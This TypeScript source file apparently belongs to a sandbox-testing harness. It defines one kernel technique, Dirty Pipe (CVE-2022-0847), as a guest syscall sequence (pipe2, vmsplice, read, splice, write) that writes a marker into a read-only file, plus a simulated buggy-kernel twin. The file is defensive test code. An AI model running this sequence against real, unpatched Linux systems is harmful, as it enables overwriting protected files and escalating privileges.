/** E: sequences of calls that bugs of kernels were used by. */
import { AT_FDCWD, O_RDONLY } from '../../abi/fcntl.ts';
import { MARK, open } from '../guest/moves.ts';
import type { Field, Grants, Technique } from '../types.ts';

const readOnly = ({ readable }: Field): Grants => ({ mounts: [{ source: readable, destination: readable }] });
const writable = ({ readable }: Field): Grants => ({ mounts: [{ source: readable, destination: readable, writable: true }] });
/** What a pipe holds by default: 16 pages. */
const PIPE_PAGES = 16;
const PAGE = 4096;

export const KERNEL_TECHNIQUES: readonly Technique[] = [
  {
    name: 'dirty-pipe', kind: 'E', title: 'A file that can be read is written through a pipe', source: 'CVE-2022-0847', needs: 'Linux 5.8 to 5.16.10', isHarmless: true,
    grants: readOnly,
    program: (guest, { readable }) => {
      const pipe = guest.buffer(8);
      const page = guest.buffer(PAGE);
      guest.attempt('pipe', 'pipe2', pipe, 0);
      const [reader, writer] = [guest.load(4, pipe), guest.load(4, pipe + 4)];
      // Each page of the pipe gets PIPE_BUF_FLAG_CAN_MERGE, and keeps it when it is empty.
      guest.repeat(PIPE_PAGES, () => void guest.sys('vmsplice', writer, guest.words(page, PAGE), 1, 0));
      guest.repeat(PIPE_PAGES, () => void guest.sys('read', reader, page, PAGE));
      const file = open(guest, `${readable}/file`, O_RDONLY);
      const offset = guest.words(1);
      guest.attempt('splice one byte of the file into the pipe', 'splice', file, offset, writer, 0, 1, 0);
      guest.attempt('write to the pipe', 'write', writer, guest.text(MARK), MARK.length);
    },
    twin: {
      what: 'a kernel that merges what is written into the page of the file (simulated)', on: 'sandbox', grants: writable,
      bugs: ({ readable }) => ({
        write: (guest, [, address = 0, length = 0], result) => {
          const fd = guest.sys('openat', AT_FDCWD, guest.text(`${readable}/file`), 1, 0);
          guest.set(result, guest.sys('pwrite64', fd, address, length, 2));
        },
      }),
    },
  },
];
